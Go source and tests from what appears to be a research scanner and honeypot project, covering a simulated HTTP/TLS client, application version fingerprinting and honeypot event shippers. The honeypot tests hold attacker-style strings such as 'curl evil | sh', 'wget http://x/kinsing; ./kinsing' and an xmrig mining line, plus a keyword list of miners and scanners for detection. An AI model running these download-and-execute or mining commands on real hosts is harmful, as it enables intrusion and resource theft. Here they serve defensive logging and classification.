	for i := 1; i <= 3; i++ {
		resp, err := client.Get("http://10.0.0.1:80/")
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if string(body) != fmt.Sprint(i) {
			t.Fatalf("request %d: body %q", i, body)
		}
	}
}

func TestTLSHandshakeAndServe(t *testing.T) {
	ca, err := NewCA()
	if err != nil {
		t.Fatal(err)
	}
	cert, err := ca.CertFor("db.example.org", testIP.String())
	if err != nil {
		t.Fatal(err)
	}
	n := simnet.New()
	h := simnet.NewHost(testIP)
	h.Bind(443, TLSConnHandler(helloHandler("secret"), cert))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	client := NewClient(n, ClientOptions{})
	resp, err := client.Get("https://10.0.0.1:443/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if string(body) != "secret" {
		t.Fatalf("body = %q", body)
	}
	// Speaking plain HTTP to a TLS port must fail, not hang.
	if _, err := client.Get("http://10.0.0.1:443/"); err == nil {
		t.Fatal("plain HTTP to TLS port should fail")
	}
}

func TestRedirectsFollowedWithCap(t *testing.T) {
	n := simnet.New()
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/hop1", http.StatusFound)
	})
	mux.HandleFunc("/hop1", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/hop2", http.StatusFound)
	})
	mux.HandleFunc("/hop2", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "done")
	})
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/loop", http.StatusFound)
	})
	h := simnet.NewHost(testIP)
	h.Bind(80, ConnHandler(mux))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	client := NewClient(n, ClientOptions{MaxRedirects: 5})
	resp, err := client.Get("http://10.0.0.1:80/")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "done" {
		t.Fatalf("redirect chain body = %q", body)
	}
	if _, err := client.Get("http://10.0.0.1:80/loop"); err == nil {
		t.Fatal("redirect loop must be cut off")
	}
}

func TestClientSourceIPReachesServer(t *testing.T) {
	n := simnet.New()
	var seen string
	h := simnet.NewHost(testIP)
	h.Bind(80, ConnHandler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen = r.RemoteAddr
	})))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	src := netip.MustParseAddr("203.0.113.77")
	client := NewClient(n, ClientOptions{SourceIP: src, DisableKeepAlives: true})
	resp, err := client.Get("http://10.0.0.1:80/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if seen != "203.0.113.77:0" {
		t.Fatalf("server saw RemoteAddr %q", seen)
	}
}

func TestClientSourceIPDialRejectsBadPorts(t *testing.T) {
	n := simnet.New()
	h := simnet.NewHost(testIP)
	h.Bind(80, ConnHandler(helloHandler("hello")))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	src := netip.MustParseAddr("203.0.113.77")
	client := NewClient(n, ClientOptions{SourceIP: src, DisableKeepAlives: true})
	dial := client.Transport.(*http.Transport).DialContext
	// fmt.Sscanf("%d") would have accepted the trailing garbage in "80x";
	// the dial path must validate ports exactly like simnet.DialContext.
	for _, port := range []string{"80x", "0", "65536", "-1", ""} {
		if _, err := dial(context.Background(), "tcp", "10.0.0.1:"+port); err == nil {
			t.Errorf("dial with port %q should fail", port)
		}
	}
	c, err := dial(context.Background(), "tcp", "10.0.0.1:80")
	if err != nil {
		t.Fatalf("dial with valid port: %v", err)
	}
	c.Close()
}

func TestFetchCertificateExtractsNames(t *testing.T) {
	ca, err := NewCA()
	if err != nil {
		t.Fatal(err)
	}
	cert, err := ca.CertFor("contact.example.net", testIP.String())
	if err != nil {
		t.Fatal(err)
	}
	n := simnet.New()
	h := simnet.NewHost(testIP)
	h.Bind(443, TLSConnHandler(helloHandler("x"), cert))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	leaf, err := FetchCertificate(ctx, n, testIP, 443)
	if err != nil {
		t.Fatal(err)
	}
	if len(leaf.DNSNames) != 1 || leaf.DNSNames[0] != "contact.example.net" {
		t.Fatalf("DNSNames = %v", leaf.DNSNames)
	}
	// And the chain verifies against the CA pool.
	if _, err := leaf.Verify(x509.VerifyOptions{Roots: ca.Pool(), DNSName: "contact.example.net"}); err != nil {
		t.Fatalf("verification against CA failed: %v", err)
	}
}

func TestCertCaching(t *testing.T) {
	ca, err := NewCA()
	if err != nil {
		t.Fatal(err)
	}
	c1, err := ca.CertFor("a.example")
	if err != nil {
		t.Fatal(err)
	}
	c2, err := ca.CertFor("a.example")
	if err != nil {
		t.Fatal(err)
	}
	if &c1.Certificate[0][0] != &c2.Certificate[0][0] {
		t.Fatal("same names must return the cached certificate")
	}
	if _, err := ca.CertFor(); err == nil {
		t.Fatal("CertFor() without names must fail")
	}
}
