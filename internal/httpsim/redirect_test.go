package httpsim

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"mavscan/internal/simnet"
)

// chainHost binds a host serving a redirect chain of exactly hops
// redirects: / → /hop1 → ... → /hopN, with the final page answering
// "done".
func chainHost(t *testing.T, n *simnet.Network, hops int) {
	t.Helper()
	mux := http.NewServeMux()
	for i := 0; i < hops; i++ {
		from := "/"
		if i > 0 {
			from = fmt.Sprintf("/hop%d", i)
		}
		to := fmt.Sprintf("/hop%d", i+1)
		mux.HandleFunc(from, func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, to, http.StatusFound)
		})
	}
	final := "/"
	if hops > 0 {
		final = fmt.Sprintf("/hop%d", hops)
	}
	mux.HandleFunc(final, func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "done")
	})
	h := simnet.NewHost(testIP)
	h.Bind(80, ConnHandler(mux))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
}

// TestMaxRedirectsBoundary pins the cap's boundary semantics: a chain of
// exactly MaxRedirects hops succeeds, one more hop fails with the
// "stopped after N redirects" error.
func TestMaxRedirectsBoundary(t *testing.T) {
	const maxHops = 3

	atCap := simnet.New()
	chainHost(t, atCap, maxHops)
	client := NewClient(atCap, ClientOptions{MaxRedirects: maxHops})
	resp, err := client.Get("http://10.0.0.1:80/")
	if err != nil {
		t.Fatalf("chain of exactly MaxRedirects=%d hops must succeed: %v", maxHops, err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "done" {
		t.Fatalf("chain body = %q, want %q", body, "done")
	}

	overCap := simnet.New()
	chainHost(t, overCap, maxHops+1)
	client = NewClient(overCap, ClientOptions{MaxRedirects: maxHops})
	resp, err = client.Get("http://10.0.0.1:80/")
	if err == nil {
		resp.Body.Close()
		t.Fatalf("chain of MaxRedirects+1 = %d hops must fail", maxHops+1)
	}
	want := fmt.Sprintf("stopped after %d redirects", maxHops)
	if !strings.Contains(err.Error(), want) {
		t.Fatalf("error %q does not contain %q", err, want)
	}
}
