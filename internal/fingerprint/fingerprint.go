// Package fingerprint determines the deployed version of a detected
// application, reproducing the paper's two-path fingerprinter:
//
//  1. Direct extraction for the 13 applications that voluntarily reveal a
//     version (an API endpoint, an HTTP header, a meta generator tag, or
//     an HTML comment).
//  2. A crawler plus a knowledge base of static-file hashes for the five
//     remaining applications (and for installations that strip their
//     version markers), combining the approaches of WhatWeb and
//     BlindElephant as described in Section 3.1.
package fingerprint

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"regexp"
	"sort"
	"strings"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/mav"
	"mavscan/internal/resilience"
	"mavscan/internal/telemetry"
	"mavscan/internal/tsunami"
)

// Method records how a version was determined.
type Method string

// Fingerprinting methods.
const (
	MethodDirect  Method = "direct"
	MethodHash    Method = "hash"
	MethodUnknown Method = ""
)

// Result is a fingerprinting outcome.
type Result struct {
	App     mav.App
	Version string
	Method  Method
}

// Identified reports whether a version was determined.
func (r Result) Identified() bool { return r.Version != "" }

// assetKey identifies a (app, version) release pair in the knowledge base.
type assetKey struct {
	App     mav.App
	Version string
}

// KnowledgeBase maps static-file content hashes to the releases that ship
// them. One hash may belong to several releases (version-stable files);
// the crawler resolves ambiguity by intersecting candidate sets.
type KnowledgeBase map[string][]assetKey

// BuildKnowledgeBase hashes every static asset of every release of every
// cataloged application — the equivalent of the paper's repository-derived
// knowledge base.
func BuildKnowledgeBase() KnowledgeBase {
	kb := make(KnowledgeBase)
	for _, info := range mav.Catalog() {
		for _, rel := range apps.Timeline(info.App) {
			for _, path := range apps.AssetPaths(info.App) {
				sum := hashBody(apps.AssetBody(info.App, rel.Version, path))
				kb[sum] = append(kb[sum], assetKey{info.App, rel.Version})
			}
		}
	}
	return kb
}

func hashBody(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// Fingerprinter identifies application versions over the network.
type Fingerprinter struct {
	env *tsunami.Env
	kb  KnowledgeBase
	tel *fpTelemetry
}

// fpTelemetry carries the fingerprinter's handles: one latency histogram
// plus a counter per identification method, splitting the cheap direct
// path from the crawl-heavy hash path the way DESIGN.md's ablation does.
type fpTelemetry struct {
	reg      *telemetry.Registry
	latency  *telemetry.Histogram
	byMethod map[Method]*telemetry.Counter
}

// Instrument registers the fingerprinting metrics with reg (nil = off).
func (f *Fingerprinter) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	byMethod := make(map[Method]*telemetry.Counter, 3)
	for _, m := range []struct {
		method Method
		label  string
	}{{MethodDirect, "direct"}, {MethodHash, "hash"}, {MethodUnknown, "unknown"}} {
		byMethod[m.method] = reg.Counter(
			telemetry.Labeled("mavscan_fingerprint_total", "method", m.label))
	}
	f.tel = &fpTelemetry{
		reg:      reg,
		latency:  reg.Histogram("mavscan_fingerprint_seconds", nil),
		byMethod: byMethod,
	}
}

// New builds a fingerprinter using env for network access and the default
// knowledge base.
func New(env *tsunami.Env) *Fingerprinter {
	return &Fingerprinter{env: env, kb: BuildKnowledgeBase()}
}

// NewWithKnowledgeBase uses a caller-provided knowledge base.
func NewWithKnowledgeBase(env *tsunami.Env, kb KnowledgeBase) *Fingerprinter {
	return &Fingerprinter{env: env, kb: kb}
}

// SetRetrier installs retry/backoff on the fingerprinter's network access.
func (f *Fingerprinter) SetRetrier(r *resilience.Retrier) { f.env.SetRetrier(r) }

// Fingerprint determines the version of the application at t, trying the
// direct path first and falling back to crawl-and-hash.
func (f *Fingerprinter) Fingerprint(ctx context.Context, t tsunami.Target) Result {
	tel := f.tel
	var start time.Time
	if tel != nil {
		start = tel.reg.Now()
	}
	res := f.fingerprint(ctx, t)
	if tel != nil {
		tel.latency.ObserveDuration(tel.reg.Now().Sub(start))
		tel.byMethod[res.Method].Inc()
	}
	return res
}

func (f *Fingerprinter) fingerprint(ctx context.Context, t tsunami.Target) Result {
	if v := f.direct(ctx, t); v != "" {
		return Result{App: t.App, Version: v, Method: MethodDirect}
	}
	if v := f.crawlHash(ctx, t); v != "" {
		return Result{App: t.App, Version: v, Method: MethodHash}
	}
	return Result{App: t.App, Method: MethodUnknown}
}

// Version-marker regexps for the direct extractors.
var (
	reWordPressGen = regexp.MustCompile(`content="WordPress ([0-9][0-9a-zA-Z.\-]*)"`)
	reDrupalGen    = regexp.MustCompile(`content="Drupal ([0-9][0-9a-zA-Z.\-]*)`)
	reConsulHTML   = regexp.MustCompile(`<!-- Consul ([0-9][0-9a-zA-Z.\-]*) -->`)
	reGoVersion    = regexp.MustCompile(`"version"\s*:\s*"([^"]+)"`)
	reGitVersion   = regexp.MustCompile(`"gitVersion"\s*:\s*"v([^"]+)"`)
	reDockerVer    = regexp.MustCompile(`"Version"\s*:\s*"([^"]+)"`)
	reHadoopVer    = regexp.MustCompile(`"resourceManagerVersion"\s*:\s*"([^"]+)"`)
	reNomadVer     = regexp.MustCompile(`"Version"\s*:\s*\{\s*"Version"\s*:\s*"([^"]+)"`)
	reZeppelinVer  = regexp.MustCompile(`"body"\s*:\s*\{\s*"version"\s*:\s*"([^"]+)"`)
	rePMAVer       = regexp.MustCompile(`Version information: ([0-9][0-9a-zA-Z.\-]*)`)
	reGoCDVer      = regexp.MustCompile(`server-version">([^<]+)<`)
)

// direct implements the 13 voluntary-disclosure extractors.
func (f *Fingerprinter) direct(ctx context.Context, t tsunami.Target) string {
	get := func(path string) *tsunami.Response {
		resp, err := f.env.Get(ctx, t, path)
		if err != nil {
			return nil
		}
		return resp
	}
	first := func(re *regexp.Regexp, body string) string {
		if m := re.FindStringSubmatch(body); m != nil {
			return m[1]
		}
		return ""
	}
	switch t.App {
	case mav.Jenkins:
		if resp := get("/"); resp != nil {
			return resp.Header.Get("X-Jenkins")
		}
	case mav.GoCD:
		if resp := get("/go/api/version"); resp != nil {
			if v := first(reGoVersion, resp.Body); v != "" {
				return v
			}
		}
		if resp := get("/go/home"); resp != nil {
			return first(reGoCDVer, resp.Body)
		}
	case mav.WordPress:
		if resp := get("/"); resp != nil {
			return first(reWordPressGen, resp.Body)
		}
	case mav.Drupal:
		if resp := get("/"); resp != nil {
			if v := first(reDrupalGen, resp.Body); v != "" {
				return v
			}
			if xg := resp.Header.Get("X-Generator"); strings.HasPrefix(xg, "Drupal ") {
				return strings.TrimPrefix(xg, "Drupal ")
			}
		}
	case mav.Kubernetes:
		if resp := get("/version"); resp != nil {
			return first(reGitVersion, resp.Body)
		}
	case mav.Docker:
		if resp := get("/version"); resp != nil && resp.Status == 200 {
			return first(reDockerVer, resp.Body)
		}
	case mav.Consul:
		if resp := get("/ui/"); resp != nil {
			return first(reConsulHTML, resp.Body)
		}
	case mav.Hadoop:
		if resp := get("/ws/v1/cluster/info"); resp != nil {
			return first(reHadoopVer, resp.Body)
		}
	case mav.Nomad:
		if resp := get("/v1/agent/self"); resp != nil {
			return first(reNomadVer, resp.Body)
		}
	case mav.JupyterLab, mav.JupyterNotebook:
		if resp := get("/api"); resp != nil {
			return first(reGoVersion, resp.Body)
		}
	case mav.Zeppelin:
		if resp := get("/api/version"); resp != nil {
			return first(reZeppelinVer, resp.Body)
		}
	case mav.PhpMyAdmin:
		for _, path := range []string{"/", "/phpmyadmin"} {
			if resp := get(path); resp != nil {
				if v := first(rePMAVer, resp.Body); v != "" {
					return v
				}
			}
		}
	}
	return ""
}

var reLinks = regexp.MustCompile(`(?:href|src)="(/[^"]+)"`)

// crawlHash crawls the landing page for static assets, hashes them and
// intersects knowledge-base candidates until one release remains.
func (f *Fingerprinter) crawlHash(ctx context.Context, t tsunami.Target) string {
	root, err := f.env.Get(ctx, t, "/")
	if err != nil {
		return ""
	}
	seen := map[string]bool{}
	for _, m := range reLinks.FindAllStringSubmatch(root.Body, 32) {
		seen[m[1]] = true
	}
	// Also try the release's known asset paths directly: landing pages of
	// half-installed applications do not always link every asset.
	for _, p := range apps.AssetPaths(t.App) {
		seen[p] = true
	}
	// Crawl in sorted order: under fault injection the draw consumed by
	// each request depends on request order, so map-order iteration would
	// make the outcome vary run to run.
	paths := make([]string, 0, len(seen))
	for p := range seen {
		paths = append(paths, p)
	}
	sort.Strings(paths)
	var candidates map[assetKey]bool
	for _, path := range paths {
		if ctx.Err() != nil {
			return "" // canceled mid-crawl: no identification, not a partial one
		}
		resp, err := f.env.Get(ctx, t, path)
		if err != nil || resp.Status != 200 {
			continue
		}
		if resp.Truncated {
			// A body cut at the read cap is a prefix, and a prefix hash can
			// collide with nothing in the knowledge base — or worse, a
			// hostile endpoint could serve cap-sized prefixes of real assets
			// to poison the intersection. Truncated bodies are no evidence.
			continue
		}
		keys, ok := f.kb[hashBody([]byte(resp.Body))]
		if !ok {
			continue
		}
		set := map[assetKey]bool{}
		for _, k := range keys {
			if k.App == t.App {
				set[k] = true
			}
		}
		if len(set) == 0 {
			continue
		}
		if candidates == nil {
			candidates = set
			continue
		}
		// Intersect.
		for k := range candidates {
			if !set[k] {
				delete(candidates, k)
			}
		}
	}
	if len(candidates) != 1 {
		return ""
	}
	for k := range candidates {
		return k.Version
	}
	return ""
}
