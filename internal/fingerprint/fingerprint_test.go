package fingerprint

import (
	"bytes"
	"context"
	"net/http"
	"net/netip"
	"testing"

	"mavscan/internal/apps"
	"mavscan/internal/httpsim"
	"mavscan/internal/limits"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
	"mavscan/internal/tsunami"
)

var fpIP = netip.MustParseAddr("10.0.0.1")

func deployVersion(t *testing.T, app mav.App, version string) (*Fingerprinter, tsunami.Target) {
	t.Helper()
	cfg := apps.Config{App: app, Version: version, Options: map[string]bool{}}
	// Deploy installed/secure so the landing pages are the common case.
	cfg.Installed = true
	cfg.AuthRequired = false
	inst, err := apps.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	n := simnet.New()
	h := simnet.NewHost(fpIP)
	port := mav.MustLookup(app).Ports[0]
	h.Bind(port, httpsim.ConnHandler(inst.Handler()))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	env := tsunami.NewEnv(httpsim.NewClient(n, httpsim.ClientOptions{}))
	return New(env), tsunami.Target{IP: fpIP, Port: port, Scheme: "http", App: app}
}

// The 13 applications with voluntary version disclosure and the 5 that
// need the crawl-and-hash path.
var directApps = []mav.App{
	mav.Jenkins, mav.GoCD, mav.WordPress, mav.Drupal, mav.Kubernetes,
	mav.Docker, mav.Consul, mav.Hadoop, mav.Nomad, mav.JupyterLab,
	mav.JupyterNotebook, mav.Zeppelin, mav.PhpMyAdmin,
}

var hashApps = []mav.App{mav.Joomla, mav.Grav, mav.Polynote, mav.Ajenti, mav.Adminer}

func TestDirectExtractorsCoverThirteenApps(t *testing.T) {
	if len(directApps) != 13 {
		t.Fatalf("direct list has %d apps, want 13 (as in the paper)", len(directApps))
	}
	for _, app := range directApps {
		if app == mav.Kubernetes {
			continue // requires TLS deployment; covered by the scanner integration test
		}
		tl := apps.Timeline(app)
		version := tl[len(tl)/2].Version // a middle release, not the default
		fp, target := deployVersion(t, app, version)
		res := fp.Fingerprint(context.Background(), target)
		if res.Method != MethodDirect {
			t.Errorf("%s: method %q, want direct", app, res.Method)
		}
		if res.Version != version {
			t.Errorf("%s: version %q, want %q", app, res.Version, version)
		}
	}
}

func TestHashFingerprintingCoversRemainingFive(t *testing.T) {
	if len(hashApps) != 5 {
		t.Fatalf("hash list has %d apps, want 5", len(hashApps))
	}
	for _, app := range hashApps {
		tl := apps.Timeline(app)
		version := tl[0].Version // oldest release: hardest case
		fp, target := deployVersion(t, app, version)
		res := fp.Fingerprint(context.Background(), target)
		if res.Method != MethodHash {
			t.Errorf("%s: method %q, want hash", app, res.Method)
		}
		if res.Version != version {
			t.Errorf("%s: version %q, want %q", app, res.Version, version)
		}
	}
}

func TestKnowledgeBaseAmbiguityHandling(t *testing.T) {
	kb := BuildKnowledgeBase()
	// The version-stable logo asset must map to every release of the app.
	stable := hashBody(apps.AssetBody(mav.Grav, "1.6.0", "/static/logo.css"))
	keys := kb[stable]
	gravVersions := 0
	for _, k := range keys {
		if k.App == mav.Grav {
			gravVersions++
		}
	}
	if gravVersions != len(apps.Timeline(mav.Grav)) {
		t.Errorf("stable asset maps to %d Grav releases, want all %d", gravVersions, len(apps.Timeline(mav.Grav)))
	}
	// A versioned asset must map to exactly one release.
	unique := hashBody(apps.AssetBody(mav.Grav, "1.6.0", "/system/assets/grav.css"))
	if got := len(kb[unique]); got != 1 {
		t.Errorf("versioned asset maps to %d releases, want 1", got)
	}
}

func TestUnknownTargetYieldsUnidentified(t *testing.T) {
	n := simnet.New() // nothing deployed
	env := tsunami.NewEnv(httpsim.NewClient(n, httpsim.ClientOptions{}))
	fp := New(env)
	res := fp.Fingerprint(context.Background(), tsunami.Target{IP: fpIP, Port: 80, Scheme: "http", App: mav.Grav})
	if res.Identified() || res.Method != MethodUnknown {
		t.Fatalf("unreachable target identified: %+v", res)
	}
}

// TestHashPathDisambiguatesVersions: two different deployed releases must
// fingerprint to their own versions, not to each other.
func TestHashPathDisambiguatesVersions(t *testing.T) {
	for _, version := range []string{"0.2.0", "0.4.0"} {
		fp, target := deployVersion(t, mav.Polynote, version)
		res := fp.Fingerprint(context.Background(), target)
		if res.Version != version {
			t.Errorf("Polynote %s fingerprinted as %q", version, res.Version)
		}
	}
}

// bindPage deploys a bare HTTP host serving exactly the given routes.
func bindPage(t *testing.T, routes map[string][]byte) *simnet.Network {
	t.Helper()
	mux := http.NewServeMux()
	for path, body := range routes {
		body := body
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Write(body)
		})
	}
	n := simnet.New()
	h := simnet.NewHost(fpIP)
	h.Bind(80, httpsim.ConnHandler(mux))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	return n
}

// TestCrawlHashIgnoresTruncatedBodies is the anti-poisoning regression: a
// hostile endpoint serves a multi-MiB "asset" whose cap-sized prefix
// hashes to a genuine knowledge-base entry. Before truncation was recorded
// the crawler hashed the silently clipped prefix and identified the fake
// release; now a truncated body is no evidence at all.
func TestCrawlHashIgnoresTruncatedBodies(t *testing.T) {
	huge := bytes.Repeat([]byte("poison! "), limits.MaxBody/2) // 4x the cap
	kb := KnowledgeBase{
		hashBody(huge[:limits.MaxBody]): {assetKey{mav.Grav, "99.0-fake"}},
	}
	n := bindPage(t, map[string][]byte{
		"/":              []byte(`<a href="/static/big.js">big</a>`),
		"/static/big.js": huge,
	})
	env := tsunami.NewEnv(httpsim.NewClient(n, httpsim.ClientOptions{}))
	fp := NewWithKnowledgeBase(env, kb)
	res := fp.Fingerprint(context.Background(), tsunami.Target{IP: fpIP, Port: 80, Scheme: "http", App: mav.Grav})
	if res.Identified() {
		t.Fatalf("truncated-prefix hash identified %q; clipped bodies must be discarded", res.Version)
	}
}

// TestCrawlHashExactCapBody is the other side of the boundary: a body of
// exactly limits.MaxBody is complete, not truncated, and must still match.
func TestCrawlHashExactCapBody(t *testing.T) {
	exact := bytes.Repeat([]byte{'e'}, limits.MaxBody)
	kb := KnowledgeBase{
		hashBody(exact): {assetKey{mav.Grav, "7.7.7"}},
	}
	n := bindPage(t, map[string][]byte{
		"/":                []byte(`<a href="/static/exact.js">e</a>`),
		"/static/exact.js": exact,
	})
	env := tsunami.NewEnv(httpsim.NewClient(n, httpsim.ClientOptions{}))
	fp := NewWithKnowledgeBase(env, kb)
	res := fp.Fingerprint(context.Background(), tsunami.Target{IP: fpIP, Port: 80, Scheme: "http", App: mav.Grav})
	if res.Version != "7.7.7" {
		t.Fatalf("exact-cap body fingerprinted as %q, want 7.7.7", res.Version)
	}
}
