// Package beats implements the honeypot monitoring shippers:
//
//   - Packetbeat — records every HTTP transaction (including POST bodies,
//     which plain web-server logs would miss) by wrapping the emulated
//     application's handler,
//   - Auditbeat — records system command executions by implementing the
//     emulators' ExecSink,
//   - the resource monitor — watches for workloads that abuse the host
//     (cryptominers), triggering snapshot restores out of band.
//
// All events are shipped to the central eslite store.
package beats

import (
	"io"
	"net/http"
	"net/netip"
	"strings"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/eslite"
	"mavscan/internal/mav"
	"mavscan/internal/simtime"
)

// maxRecordedBody bounds captured request bodies.
const maxRecordedBody = 64 << 10

// Packetbeat wraps an http.Handler so every request is shipped as an
// "http" event before the application sees it.
type Packetbeat struct {
	store *eslite.Store
	clock simtime.Clock
	// HostIP identifies the monitored honeypot in the central store.
	hostIP netip.Addr
	app    mav.App
}

// NewPacketbeat builds a shipper for one monitored host.
func NewPacketbeat(store *eslite.Store, clock simtime.Clock, hostIP netip.Addr, app mav.App) *Packetbeat {
	return &Packetbeat{store: store, clock: clock, hostIP: hostIP, app: app}
}

// Wrap instruments h.
func (p *Packetbeat) Wrap(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body string
		if r.Body != nil {
			data, err := io.ReadAll(io.LimitReader(r.Body, maxRecordedBody))
			if err == nil {
				body = string(data)
				// Hand the application a replayable body.
				r.Body = io.NopCloser(strings.NewReader(body))
			}
		}
		src := ""
		if ap, err := netip.ParseAddrPort(r.RemoteAddr); err == nil {
			src = ap.Addr().String()
		}
		p.store.Append(eslite.Event{
			Time: p.clock.Now(),
			Type: "http",
			Fields: map[string]string{
				"host":   p.hostIP.String(),
				"app":    string(p.app),
				"src":    src,
				"method": r.Method,
				"path":   r.URL.RequestURI(),
				"body":   body,
			},
		})
		h.ServeHTTP(w, r)
	})
}

// Auditbeat ships command executions reported by the emulated
// applications, the equivalent of hooking the Linux audit framework.
type Auditbeat struct {
	store  *eslite.Store
	hostIP netip.Addr
}

// NewAuditbeat builds the exec shipper for one monitored host.
func NewAuditbeat(store *eslite.Store, hostIP netip.Addr) *Auditbeat {
	return &Auditbeat{store: store, hostIP: hostIP}
}

// RecordExec implements apps.ExecSink.
func (a *Auditbeat) RecordExec(t time.Time, src netip.Addr, app mav.App, via, command string) {
	a.store.Append(eslite.Event{
		Time: t,
		Type: "exec",
		Fields: map[string]string{
			"host":    a.hostIP.String(),
			"app":     string(app),
			"src":     src.String(),
			"via":     via,
			"command": command,
		},
	})
}

var _ apps.ExecSink = (*Auditbeat)(nil)

// Abusive classifies a command as resource abuse (mining, scanning, DoS
// tooling) using the indicator strings the paper's threshold monitor would
// trip on.
func Abusive(command string) bool {
	low := strings.ToLower(command)
	for _, marker := range []string{
		"xmrig", "minerd", "kinsing", "kdevtmpfsi", "stratum+tcp",
		"monero", "cryptonight", "masscan", "ddos",
	} {
		if strings.Contains(low, marker) {
			return true
		}
	}
	return false
}

// Disruptive classifies a command that takes the host down (the vigilante
// shutdowns observed on Jupyter Lab).
func Disruptive(command string) bool {
	low := strings.ToLower(command)
	return strings.Contains(low, "shutdown") || strings.Contains(low, "poweroff") || strings.Contains(low, "halt ")
}
