package beats

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"
	"time"

	"mavscan/internal/eslite"
	"mavscan/internal/mav"
	"mavscan/internal/simtime"
)

var (
	potIP = netip.MustParseAddr("10.30.0.10")
	atkIP = netip.MustParseAddr("203.0.113.5")
	now   = time.Date(2021, 6, 9, 12, 0, 0, 0, time.UTC)
)

func TestPacketbeatCapturesPostBody(t *testing.T) {
	store := &eslite.Store{}
	clock := simtime.NewSim(now)
	pb := NewPacketbeat(store, clock, potIP, mav.Hadoop)

	var appSaw string
	wrapped := pb.Wrap(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		appSaw = string(body)
	}))

	payload := `{"am-container-spec":{"commands":{"command":"curl evil | sh"}}}`
	req := httptest.NewRequest("POST", "/ws/v1/cluster/apps", strings.NewReader(payload))
	req.RemoteAddr = atkIP.String() + ":44444"
	wrapped.ServeHTTP(httptest.NewRecorder(), req)

	// The application must still receive the body after capture.
	if appSaw != payload {
		t.Fatalf("application saw %q", appSaw)
	}
	events := store.Search(eslite.Query{Type: "http"})
	if len(events) != 1 {
		t.Fatalf("%d http events", len(events))
	}
	e := events[0]
	if e.Field("body") != payload {
		t.Errorf("captured body %q", e.Field("body"))
	}
	if e.Field("src") != atkIP.String() {
		t.Errorf("captured src %q", e.Field("src"))
	}
	if e.Field("method") != "POST" || e.Field("path") != "/ws/v1/cluster/apps" {
		t.Errorf("captured method/path %q %q", e.Field("method"), e.Field("path"))
	}
	if e.Field("app") != "Hadoop" || e.Field("host") != potIP.String() {
		t.Errorf("captured app/host %q %q", e.Field("app"), e.Field("host"))
	}
	if !e.Time.Equal(now) {
		t.Errorf("event time %v, want simulated %v", e.Time, now)
	}
}

func TestAuditbeatShipsExecEvents(t *testing.T) {
	store := &eslite.Store{}
	ab := NewAuditbeat(store, potIP)
	ab.RecordExec(now, atkIP, mav.Docker, "container-create", "sh -c wget evil")
	events := store.Search(eslite.Query{Type: "exec"})
	if len(events) != 1 {
		t.Fatalf("%d exec events", len(events))
	}
	e := events[0]
	if e.Field("command") != "sh -c wget evil" || e.Field("via") != "container-create" {
		t.Errorf("exec event fields: %v", e.Fields)
	}
	if e.Field("src") != atkIP.String() || e.Field("app") != "Docker" {
		t.Errorf("exec attribution: %v", e.Fields)
	}
}

func TestAbusiveClassifier(t *testing.T) {
	abusive := []string{
		"./xmrig -o stratum+tcp://pool:4444",
		"wget http://x/kinsing; ./kinsing",
		"curl x | sh; ./kdevtmpfsi",
		"masscan 0.0.0.0/0 -p2375",
		"run MONERO miner",
	}
	for _, cmd := range abusive {
		if !Abusive(cmd) {
			t.Errorf("not classified abusive: %q", cmd)
		}
	}
	benign := []string{"id", "uname -a", "cat /etc/passwd", "echo hello"}
	for _, cmd := range benign {
		if Abusive(cmd) {
			t.Errorf("falsely classified abusive: %q", cmd)
		}
	}
}

func TestDisruptiveClassifier(t *testing.T) {
	if !Disruptive("shutdown -h now") || !Disruptive("poweroff") {
		t.Error("shutdown commands not classified disruptive")
	}
	if Disruptive("ls -la") {
		t.Error("ls classified disruptive")
	}
}

func TestPacketbeatBoundsCapturedBody(t *testing.T) {
	store := &eslite.Store{}
	clock := simtime.NewSim(now)
	pb := NewPacketbeat(store, clock, potIP, mav.WordPress)
	wrapped := pb.Wrap(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	huge := strings.Repeat("A", maxRecordedBody*2)
	req := httptest.NewRequest("POST", "/", strings.NewReader(huge))
	req.RemoteAddr = "203.0.113.5:1"
	wrapped.ServeHTTP(httptest.NewRecorder(), req)
	events := store.Search(eslite.Query{Type: "http"})
